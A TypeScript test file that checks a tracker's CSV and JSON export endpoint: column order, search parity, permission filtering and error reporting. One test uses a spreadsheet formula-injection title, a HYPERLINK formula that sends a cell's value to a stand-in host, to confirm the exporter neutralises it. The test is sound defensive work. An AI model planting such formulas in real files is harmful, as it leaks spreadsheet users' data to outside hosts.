import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { unguardCell } from '@bluestem/core/exchange'
import { serveWorkspace, type Caller, type Served } from './workspace.ts'

let served: Served
let mara: Caller
beforeAll(async () => {
  served = await serveWorkspace()
  mara = await served.signIn('Mara Thiel')
})
afterAll(async () => await served.close())

/** A file as an independent reader takes it, its guarded cells as they were. */
const rowsOf = (text: string): string[][] =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.map((row) =>
    row.map(unguardCell),
  )

describe('answers taken out', () => {
  const hostile = '=HYPERLINK("http://example.test?x="&A1,"click"),\r\n; a "b"'
  const fields = 'ref,title,status,labels,estimate,due,created'

  it('as CSV hold every answer in its columns and order, read by another library', async () => {
    await mara('PATCH', '/items/YARD/7', { title: hostile, estimate: -2.5 }, { 'if-match': '*' })
    const question = { filter: "project = 'YARD'", fields, sort: 'ref' }
    const out = await mara('POST', '/items/export', { ...question, format: 'csv' })
    expect(out.status).toBe(200)
    const [head, ...rows] = rowsOf(out.body as string)
    expect(head).toEqual(['Ref', 'Title', 'Status', 'Labels', 'Estimate', 'Due', 'Created'])
    const page = (await mara('POST', '/items/search', { ...question, limit: 1000 })).body
    expect(rows).toHaveLength(page.total)
    for (const [index, item] of page.items.entries()) {
      const [ref, title, status, labels, estimate, due, created] = rows[index]!
      expect({ ref, title, status, due, created, estimate }).toEqual({
        ref: item.ref,
        title: item.title,
        status: item.status.title,
        due: item.due ?? '',
        created: item.created,
        estimate: String(item.estimate ?? ''),
      })
      expect(labels!.split('; ').filter(Boolean)).toHaveLength(item.labels.length)
    }
    const cell = (out.body as string).split('\r\n').find((line) => line.startsWith('YARD/7,'))!
    expect(cell).toContain(`"'=HYPERLINK(`)
    expect(rows.find(([ref]) => ref === 'YARD/7')).toMatchObject({ 4: '-2.5' })
  })

  it('as JSON are what the pages hold', async () => {
    const question = { filter: "project = 'SAFE'", fields, sort: '-created' }
    const out = await mara('POST', '/items/export', { ...question, format: 'json' })
    const page = (await mara('POST', '/items/search', { ...question, limit: 1000 })).body
    const items = page.items.map(({ etag: _, ...item }: { etag: string }) => item)
    const read = typeof out.body === 'string' ? JSON.parse(out.body) : out.body
    expect(read).toEqual({ items, total: page.total })
  })

  it('leave out what one may not see, and say what is wrong with a question', async () => {
    const ida = await served.signIn('Ida Lund')
    const out = await ida('POST', '/items/export', { format: 'csv', fields: 'ref' })
    const seen = (await ida('POST', '/items/search', { limit: 1 })).body.total
    expect(rowsOf(out.body as string)).toHaveLength(seen + 1)
    const wrong = await mara('POST', '/items/export', { format: 'csv', fields: 'ref,nope' })
    expect([wrong.status, wrong.body.errors[0].pointer]).toEqual([400, '/fields'])
  })
})
